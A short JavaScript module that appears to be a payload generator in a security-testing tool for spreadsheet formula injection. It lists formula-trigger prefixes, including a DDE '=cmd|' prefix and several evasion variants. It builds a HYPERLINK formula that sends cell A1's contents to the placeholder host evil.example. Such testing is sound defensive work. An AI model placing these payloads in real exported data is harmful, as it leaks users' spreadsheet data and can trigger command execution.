const SIGNS = ['=', '+', '-', '@', '\t=', '\r=', "'=", '\n=', '＝', '=cmd|', '"=', ' ='];

export default {
  tries: 'spreadsheet formulas at the beginning of every text field',
  text: (field, before) => `${SIGNS[(field.length + before.length) % SIGNS.length]}HYPERLINK("https://evil.example/?"&A1;"${before.replaceAll('"', '')}")`,
};
